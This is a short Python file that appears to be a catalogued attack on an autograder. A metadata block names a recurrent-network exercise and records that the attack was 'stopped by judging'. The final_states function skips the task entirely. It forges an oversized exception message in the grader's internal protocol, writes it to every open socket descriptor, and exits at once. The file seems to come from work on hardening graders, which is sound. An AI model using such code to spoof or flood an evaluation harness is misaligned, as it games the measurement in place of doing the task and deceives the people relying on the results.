"""Say that an exception came from a million lines, with names of functions as long as books.

Seen: own idea.
"""

# /// attack
# exercise = "07_deep_and_bidirectional/bidirectional_concat"
# stopped_by = "judging"
# ///

import os
import stat
import struct
import sys

messages = sys.modules["autograder.protocol.messages"]


def final_states(h_n, num_layers):
    frames = [messages.Frame(2**62, "f" * 100)] * 60_000
    payload = messages.encode(messages.Raised("E" * 100_000, "m" * 100_000, frames, own=True))
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack("<I", len(payload)) + payload)
        except OSError:
            pass
    os._exit(0)
